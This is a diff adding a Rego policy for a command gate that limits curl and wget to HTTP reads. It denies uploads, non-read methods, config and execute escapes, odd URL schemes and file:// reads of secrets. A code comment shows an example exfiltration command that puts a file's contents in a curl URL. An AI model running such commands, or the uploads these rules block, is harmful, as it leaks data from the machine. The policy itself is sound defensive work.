@@ -1,0 +1,99 @@
+# curl and wget are allowed for reading over HTTP (seed 001: "HTTP通信（読み取り専用）"):
+# uploads and other methods are denied, as are config files that can hold any option,
+# commands wget runs, and URL schemes other than http(s)/ftp(s)/file (file:// reads
+# are checked like any read).
+package cmdgate.tools
+
+import data.cmdgate.lib
+
+check(k, c) := curl_findings(c) if k == "curl"
+
+check(k, c) := wget_findings(c) if k == "wget"
+
+curl_findings(c) := ((({lib.finding("deny", "network.upload", msg, c) |
+	some w in curl_upload_options(c.argv)
+	msg := sprintf("curl %s sends data; curl is allowed for reads only", [w])
+} | {lib.finding("deny", "network.upload", msg, c) |
+	some m in lib.option_values(c.argv, {"short": ["X"], "long": ["--request"]})
+	not upper(m) in {"GET", "HEAD", "OPTIONS"}
+	msg := sprintf("curl -X %s is not a read; curl is allowed for reads only", [m])
+}) | {lib.finding("deny", "escape.curl_config", "curl -K/--config reads options from a file the policy cannot check", c) |
+	curl_config(c.argv)
+}) | url_findings(c)) | dynamic_request_findings(c)
+
+curl_upload_options(argv) := {w |
+	end := lib.dashdash(argv)
+	some i, w in argv
+	i > 0
+	i < end
+	curl_upload_word(w)
+}
+
+curl_upload_word(w) if {
+	startswith(w, "--")
+	some p in ["--data", "--form", "--upload-file", "--json", "--post"]
+	startswith(w, p)
+	not startswith(w, "--post30")
+}
+
+curl_upload_word(w) if {
+	regex.match(`^-[A-Za-z0-9]+$`, w)
+	some letter in ["d", "F", "T"]
+
+	# a cluster of options that take no value, then d, F or T
+	regex.match(concat("", [`^-[#0-9:aBfgGiIjJklLMnNOpqRsSvZ]*`, letter]), w)
+}
+
+curl_config(argv) if lib.has_flag(argv, ["-K", "--config"])
+
+curl_config(argv) if {
+	some i, w in argv
+	i > 0
+	regex.match(`^-[#0-9:aBfgGiIjJklLMnNOpqRsSvZ]*K`, w)
+}
+
+url_findings(c) := {lib.finding("deny", "network.scheme", msg, c) |
+	some o in c.operands
+	parts := regex.find_all_string_submatch_n(`^([A-Za-z][A-Za-z0-9+.-]*)://`, o.text, 1)
+	count(parts) > 0
+	scheme := lower(parts[0][1])
+	not scheme in {"http", "https", "ftp", "ftps", "file"}
+	msg := sprintf("%s %s uses the %s scheme; only http, https, ftp and file are allowed", [c.name, o.text, scheme])
+} | {lib.finding("deny", "secrets.read", msg, c) |
+	some o in c.operands
+	startswith(lower(o.text), "file://")
+	path := substring(o.text, 7, -1)
+	t := lib.target(c, path)
+	lib.secret(t)
+	msg := sprintf("%s %s reads a secret location", [c.name, o.text])
+}
+
+wget_findings(c) := (((({lib.finding("deny", "network.upload", msg, c) |
+	end := lib.dashdash(c.argv)
+	some i, w in c.argv
+	i > 0
+	i < end
+	some p in ["--post-data", "--post-file", "--body-data", "--body-file"]
+	startswith(w, p)
+	msg := sprintf("wget %s sends data; wget is allowed for downloads only", [p])
+} | {lib.finding("deny", "network.upload", msg, c) |
+	some m in lib.option_values(c.argv, {"long": ["--method"]})
+	not upper(m) in {"GET", "HEAD", "OPTIONS"}
+	msg := sprintf("wget --method %s is not a read; wget is allowed for downloads only", [m])
+}) | {lib.finding("deny", "escape.wget_execute", msg, c) |
+	some o in ["--config", "--use-askpass"]
+	lib.has_flag(c.argv, [o])
+	msg := sprintf("wget %s runs commands or reads settings the policy cannot check", [o])
+}) | {lib.finding("deny", "escape.wget_execute", msg, c) |
+	some v in lib.option_values(c.argv, {"short": ["e"], "long": ["--execute"]})
+	not lower(v) in {"robots=off", "robots=on"}
+	msg := sprintf("wget -e %s runs a wgetrc command the policy cannot check", [v])
+}) | url_findings(c)) | dynamic_request_findings(c)
+
+# network.dynamic_request: a URL, header or option built at run time can carry data
+# out of the machine (curl "https://x/?d=$(cat file)"): ask.
+dynamic_request_findings(c) := {lib.finding("ask", "network.dynamic_request", msg, c) |
+	some o in c.operands
+	o.dynamic
+	msg := sprintf("%s sends %q, which is only known at run time and may carry data out", [c.name, o.text])
+}
